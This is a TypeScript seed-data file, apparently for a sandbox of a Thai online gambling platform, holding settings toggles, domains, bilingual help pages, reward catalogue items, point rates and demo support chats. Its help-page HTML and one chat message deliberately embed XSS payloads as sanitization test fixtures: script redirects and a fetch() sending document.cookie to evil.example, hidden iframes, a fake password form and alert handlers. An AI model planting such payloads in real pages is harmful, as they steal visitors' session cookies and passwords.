// What the platform area starts with. Feature toggles follow siteConfig.ts and the registration settings, so the
// settings tree and the permission call's whitelabel flags agree.
import { REGISTRATION_OPTIONS } from '../accounts/accountsSeedData.ts';
import { MERCHANT_FLAGS, REGISTRATION_SETTING_NODES } from '../siteConfig.ts';

export interface SettingSeed {
  modId: string;
  name: string;
  enabled: boolean;
  children?: SettingSeed[];
}

const flag = (name: keyof typeof MERCHANT_FLAGS) => MERCHANT_FLAGS[name];
/** A node that shows a registration switch (read from the registration settings when the tree is asked for). */
const registrationSwitch = (modId: string) => REGISTRATION_OPTIONS[REGISTRATION_SETTING_NODES[modId]!];

export const SETTINGS_TREE: SettingSeed[] = [
  {
    modId: 'REGISTER',
    name: 'Registration',
    enabled: true,
    children: [
      { modId: 'REGISTER_USERNAME', name: 'Username registration', enabled: registrationSwitch('REGISTER_USERNAME') },
      { modId: 'REGISTER_MOBILE', name: 'Mobile registration', enabled: registrationSwitch('REGISTER_MOBILE') },
      {
        modId: 'REGISTER_SMS_VERIFICATION',
        name: 'SMS verification',
        enabled: registrationSwitch('REGISTER_SMS_VERIFICATION'),
      },
      { modId: 'REGISTER_DIRECT', name: 'Direct registration', enabled: flag('directRegistration') },
    ],
  },
  {
    modId: 'LOGIN',
    name: 'Login',
    enabled: true,
    children: [
      { modId: 'LOGIN_MOBILE_CODE', name: 'Mobile-code login', enabled: registrationSwitch('LOGIN_MOBILE_CODE') },
      { modId: 'LOGIN_FREE_PLAY', name: 'Free play', enabled: flag('freePlay') },
      {
        modId: 'LOGIN_FORCE_PASSWORD_CHANGE',
        name: 'Forced password change on expiry',
        enabled: registrationSwitch('LOGIN_FORCE_PASSWORD_CHANGE'),
      },
    ],
  },
  {
    modId: 'PASSWORD',
    name: 'Password recovery',
    enabled: true,
    children: [
      { modId: 'PASSWORD_CHANGE_MAIL', name: 'Change password by email', enabled: true },
      { modId: 'PASSWORD_CHANGE_VERIFICATION', name: 'Change password by verification code', enabled: true },
    ],
  },
  { modId: 'REFERRAL', name: 'Referral', enabled: flag('referral') },
  { modId: 'AGENT_CENTRE', name: 'Agent centre', enabled: flag('agentCentre') },
];

export interface DomainSeed {
  domain: string;
  url: string;
  siteType: 'MEMBER' | 'AGENT';
  homePath: string;
  inRouterList: boolean;
}

export const DOMAINS: DomainSeed[] = [
  { domain: 'localhost', url: 'http://localhost', siteType: 'MEMBER', homePath: '/', inRouterList: false },
  { domain: '127.0.0.1', url: 'http://127.0.0.1', siteType: 'MEMBER', homePath: '/', inRouterList: false },
  {
    domain: 'www.siam-sandbox.example',
    url: 'https://www.siam-sandbox.example',
    siteType: 'MEMBER',
    homePath: '/',
    inRouterList: true,
  },
  {
    domain: 'www2.siam-sandbox.example',
    url: 'https://www2.siam-sandbox.example',
    siteType: 'MEMBER',
    homePath: '/',
    inRouterList: true,
  },
  {
    domain: 'www3.siam-sandbox.example',
    url: 'https://www3.siam-sandbox.example',
    siteType: 'MEMBER',
    homePath: '/',
    inRouterList: true,
  },
  {
    domain: 'lotto.siam-sandbox.example',
    url: 'https://lotto.siam-sandbox.example',
    siteType: 'MEMBER',
    homePath: '/lottery',
    inRouterList: false,
  },
  {
    domain: 'agent.siam-sandbox.example',
    url: 'https://agent.siam-sandbox.example',
    siteType: 'AGENT',
    homePath: '/',
    inRouterList: false,
  },
];

export interface HelpSeed {
  code: string;
  titles: { EN: string; TY?: string };
  /** HTML as a back office would hold it; some of it hostile on purpose (the site must sanitize). */
  content: { EN: string; TY?: string };
}

export const HELP_SECTIONS: HelpSeed[] = [
  {
    code: 'about-us',
    titles: { EN: 'About us', TY: 'เกี่ยวกับเรา' },
    content: {
      EN: '<h2>About us</h2><p>We offer lottery, live casino, slots, sports and more, with <strong>24-hour</strong> support.</p><p>Deposits and withdrawals usually take about 5 minutes.</p>',
      TY: '<h2>เกี่ยวกับเรา</h2><p>เราให้บริการหวย คาสิโนสด สล็อต กีฬา และอื่น ๆ พร้อมทีมงานดูแล <strong>ตลอด 24 ชั่วโมง</strong></p>',
    },
  },
  {
    code: 'user-agreement',
    titles: { EN: 'User agreement', TY: 'ข้อตกลงผู้ใช้' },
    content: {
      EN: '<h2>User agreement</h2><ol><li>You must be 18 or older to play.</li><li>One account per person.</li><li>Bonuses carry turnover requirements shown on each promotion.</li></ol><p>Read our <a href="/help" target="_blank">terms</a> or <a href="javascript:alert(document.cookie)">click here for a prize</a>.</p>',
      TY: '<h2>ข้อตกลงผู้ใช้</h2><ol><li>ผู้เล่นต้องมีอายุ 18 ปีขึ้นไป</li><li>หนึ่งบัญชีต่อหนึ่งท่าน</li><li>โบนัสมีเงื่อนไขยอดเทิร์นโอเวอร์ตามที่แจ้งในแต่ละโปรโมชั่น</li></ol><p><a href="javascript:alert(document.cookie)">คลิกรับรางวัล</a></p><script>document.location="https://evil.example/?"+document.cookie</script>',
    },
  },
  {
    code: 'terms',
    titles: { EN: 'Terms and conditions', TY: 'ข้อกำหนดและเงื่อนไข' },
    content: {
      EN: '<h2>Terms and conditions</h2><p>By playing you accept these terms. Bets are final once the round starts; a void round is refunded to the wallet it came from.</p><ul><li>Deposits must come from an account in your own name.</li><li>Withdrawals need the turnover shown on the withdraw page.</li></ul><iframe src="https://evil.example/terms" width="1" height="1"></iframe><p onmouseover="alert(1)">We may change these terms; the date of the last change is shown here.</p>',
      TY: '<h2>ข้อกำหนดและเงื่อนไข</h2><p>การเล่นถือว่าคุณยอมรับข้อกำหนดเหล่านี้ เดิมพันถือเป็นที่สิ้นสุดเมื่อรอบเริ่มแล้ว รอบที่ถูกยกเลิกจะคืนเงินเข้ากระเป๋าเดิม</p><ul><li>การฝากเงินต้องมาจากบัญชีที่เป็นชื่อของคุณเอง</li><li>การถอนเงินต้องทำยอดเทิร์นโอเวอร์ตามที่แสดงในหน้าถอนเงิน</li></ul><img src="x" onerror="alert(\'th\')" alt="">',
    },
  },
  {
    code: 'privacy-policy',
    titles: { EN: 'Privacy policy', TY: 'นโยบายความเป็นส่วนตัว' },
    content: {
      EN: '<h2>Privacy</h2><p>We keep your personal data only as long as the law requires.</p><img src="x" onerror="fetch(\'https://evil.example/steal?c=\'+document.cookie)" alt="policy"><p style="background:url(javascript:alert(1))">Questions? Contact customer service.</p>',
      TY: '<h2>ความเป็นส่วนตัว</h2><p>เราเก็บข้อมูลส่วนบุคคลของคุณเท่าที่กฎหมายกำหนดเท่านั้น</p><form action="https://evil.example/login"><input name="password" placeholder="ยืนยันรหัสผ่าน"></form>',
    },
  },
  {
    code: 'deposit',
    titles: { EN: 'How to deposit', TY: 'วิธีฝากเงิน' },
    content: {
      EN: '<h2>Deposit</h2><p>Open <em>Deposit</em>, choose a channel, enter the amount and follow the steps.</p><script>document.location="https://evil.example/?"+document.cookie</script><table><tr><th>Channel</th><th>Minimum</th></tr><tr><td>Bank transfer</td><td>100 THB</td></tr><tr><td>QR payment</td><td>50 THB</td></tr></table>',
      TY: '<h2>ฝากเงิน</h2><p>เปิดเมนู <em>ฝากเงิน</em> เลือกช่องทาง ใส่จำนวนเงิน แล้วทำตามขั้นตอน</p>',
    },
  },
  {
    code: 'withdraw',
    titles: { EN: 'How to withdraw', TY: 'วิธีถอนเงิน' },
    content: {
      EN: '<h2>Withdraw</h2><p>Withdrawals go to the bank account in your profile. After the money arrives, confirm it as received.</p><iframe src="https://evil.example/phish" width="1" height="1"></iframe><svg onload="alert(\'svg\')"><circle r="1"/></svg>',
      TY: '<h2>ถอนเงิน</h2><p>เงินจะโอนเข้าบัญชีธนาคารในโปรไฟล์ของคุณ</p>',
    },
  },
  {
    code: 'points-mall',
    titles: { EN: 'Points mall', TY: 'ร้านค้าแต้ม' },
    content: {
      EN: '<h2>Points mall</h2><p>Earn points on valid bets and redeem them for rewards, or convert them into your main wallet. Points have no expiration.</p><form action="https://evil.example/login"><input name="password" placeholder="Confirm your password"><button>OK</button></form>',
      TY: '<h2>ร้านค้าแต้ม</h2><p>สะสมแต้มจากยอดเดิมพันที่ถูกต้อง แลกของรางวัล หรือแปลงเป็นเงินในกระเป๋าหลัก แต้มไม่มีวันหมดอายุ</p>',
    },
  },
  {
    code: 'responsible-gaming',
    titles: { EN: 'Responsible gaming', TY: 'การเล่นอย่างรับผิดชอบ' },
    content: {
      EN: '<h2>Responsible gaming</h2><p>Set yourself limits and take breaks. If gaming stops being fun, contact customer service to pause your account.</p>',
      TY: '<h2>การเล่นอย่างรับผิดชอบ</h2><p>กำหนดขีดจำกัดและพักเป็นระยะ</p>',
    },
  },
  {
    code: 'contact-us',
    // English only: the Thai help centre shows this section in English.
    titles: { EN: 'Contact us' },
    content: {
      EN: '<h2>Contact us</h2><p>Live chat and Telegram are open 24 hours. <a href="https://t.me/wl_sandbox_support" onclick="alert(1)">Telegram</a></p>',
    },
  },
];

/** Plain paths; type 3 is obfuscated on every answer. */
export const SERVICE_LINKS: { type: 1 | 2 | 3; path: string }[] = [
  { type: 1, path: 'https://livechat.example.com/chat?merchant=sandbox' },
  { type: 2, path: 'https://t.me/wl_sandbox_support' },
  { type: 3, path: 'https://service.example.com/desk/sandbox?channel=web&merchant=SIAM' },
];

export interface RewardSeed {
  name: string;
  description: string;
  category: 'CASH' | 'ITEM';
  points: number;
  amount: string | null;
  quantity: number;
  unit: string;
  needsAddress: boolean;
  active: boolean;
}

export const REWARDS: RewardSeed[] = [
  {
    name: 'Cash 10 THB',
    description: '10 THB credited to your main wallet once approved.',
    category: 'CASH',
    points: 1000,
    amount: '10.00',
    quantity: 500,
    unit: 'THB',
    needsAddress: false,
    active: true,
  },
  {
    name: 'Cash 50 THB',
    description: '50 THB credited to your main wallet once approved.',
    category: 'CASH',
    points: 4800,
    amount: '50.00',
    quantity: 300,
    unit: 'THB',
    needsAddress: false,
    active: true,
  },
  {
    name: 'Cash 100 THB',
    description: '100 THB credited to your main wallet once approved.',
    category: 'CASH',
    points: 9500,
    amount: '100.00',
    quantity: 200,
    unit: 'THB',
    needsAddress: false,
    active: true,
  },
  {
    name: 'Cash 500 THB',
    description: '500 THB credited to your main wallet once approved.',
    category: 'CASH',
    points: 46000,
    amount: '500.00',
    quantity: 50,
    unit: 'THB',
    needsAddress: false,
    active: true,
  },
  {
    name: 'Coffee voucher',
    description: 'A voucher code for one coffee, sent to your in-site messages.',
    category: 'ITEM',
    points: 1500,
    amount: null,
    quantity: 120,
    unit: 'pcs',
    needsAddress: false,
    active: true,
  },
  {
    name: 'Mobile top-up card 100',
    description: 'A 100 THB prepaid top-up code, sent to your in-site messages.',
    category: 'ITEM',
    points: 9000,
    amount: null,
    quantity: 80,
    unit: 'pcs',
    needsAddress: false,
    active: true,
  },
  {
    name: 'Team jersey',
    description: 'An official replica jersey, size chosen with customer service.',
    category: 'ITEM',
    points: 18000,
    amount: null,
    quantity: 25,
    unit: 'pcs',
    needsAddress: true,
    active: true,
  },
  {
    name: 'Wireless earbuds',
    description: 'Bluetooth earbuds with a charging case.',
    category: 'ITEM',
    points: 25000,
    amount: null,
    quantity: 20,
    unit: 'pcs',
    needsAddress: true,
    active: true,
  },
  {
    name: 'Smart watch',
    description: 'A fitness smart watch with heart-rate tracking.',
    category: 'ITEM',
    points: 60000,
    amount: null,
    quantity: 5,
    unit: 'pcs',
    needsAddress: true,
    active: true,
  },
  {
    name: 'Gold bar 1 g',
    description: 'One gram of 96.5% Thai gold, insured delivery.',
    category: 'ITEM',
    points: 150000,
    amount: null,
    quantity: 3,
    unit: 'pcs',
    needsAddress: true,
    active: true,
  },
  {
    name: 'Smartphone',
    description: 'A current mid-range smartphone, 128 GB.',
    category: 'ITEM',
    points: 250000,
    amount: null,
    quantity: 1,
    unit: 'pcs',
    needsAddress: true,
    active: true,
  },
  {
    name: 'Limited edition cap',
    description: 'A cap from the anniversary collection. Sold out.',
    category: 'ITEM',
    points: 5000,
    amount: null,
    quantity: 0,
    unit: 'pcs',
    needsAddress: true,
    active: true,
  },
  {
    name: 'Songkran water gun',
    description: 'Last season’s reward, no longer offered.',
    category: 'ITEM',
    points: 3000,
    amount: null,
    quantity: 40,
    unit: 'pcs',
    needsAddress: true,
    active: false,
  },
];

/** `points` points convert into `amount` THB from club rankLevel `minRankLevel` up. */
export const RATES = [
  { minRankLevel: 0, labelName: 'Member', points: 100, amount: '1.00' },
  { minRankLevel: 1, labelName: 'Bronze', points: 100, amount: '1.05' },
  { minRankLevel: 3, labelName: 'Silver', points: 100, amount: '1.10' },
  { minRankLevel: 5, labelName: 'Gold', points: 100, amount: '1.20' },
  { minRankLevel: 7, labelName: 'Platinum', points: 100, amount: '1.30' },
  { minRankLevel: 9, labelName: 'Diamond', points: 100, amount: '1.50' },
];

export const RULES = [
  'Every 100 THB of valid bets earns 10 points; cancelled and drawn bets earn none.',
  'Points have no expiration.',
  'Redeeming a reward takes the points at once; a rejected redemption gives them back.',
  'Cash rewards are credited to the main wallet when approved, usually within 24 hours.',
  'Points convert into the main wallet at the rate of your club level, from 1000 points in steps of 100.',
  'Redeeming and converting ask for your login password.',
];

/** The demo member's conversation with customer service: the last three service messages are unread. */
export const DEMO_CHAT: { sender: 'AGENT' | 'MEMBER'; body: string; minutesAgo: number; read: boolean }[] = [
  { sender: 'MEMBER', body: 'Hello, my deposit has not arrived yet.', minutesAgo: 2 * 24 * 60, read: true },
  {
    sender: 'AGENT',
    body: 'Hello! Please send us the transfer slip and we will check it right away.',
    minutesAgo: 2 * 24 * 60 - 3,
    read: true,
  },
  { sender: 'MEMBER', body: 'Sent, thank you.', minutesAgo: 2 * 24 * 60 - 10, read: true },
  {
    sender: 'AGENT',
    body: 'Your deposit of 500 THB has been credited. Good luck!',
    minutesAgo: 2 * 24 * 60 - 25,
    read: false,
  },
  {
    sender: 'AGENT',
    body: 'Reminder: your Gold level gives you a better points exchange rate this month.',
    minutesAgo: 6 * 60,
    read: false,
  },
  {
    sender: 'AGENT',
    body: '<b>New:</b> the points mall has new rewards. <script>alert(1)</script>',
    minutesAgo: 30,
    read: false,
  },
];

/** The agent's conversation: all read. */
export const AGENT_CHAT: typeof DEMO_CHAT = [
  {
    sender: 'AGENT',
    body: 'Welcome to the agent programme. Ask us anything here.',
    minutesAgo: 10 * 24 * 60,
    read: true,
  },
];
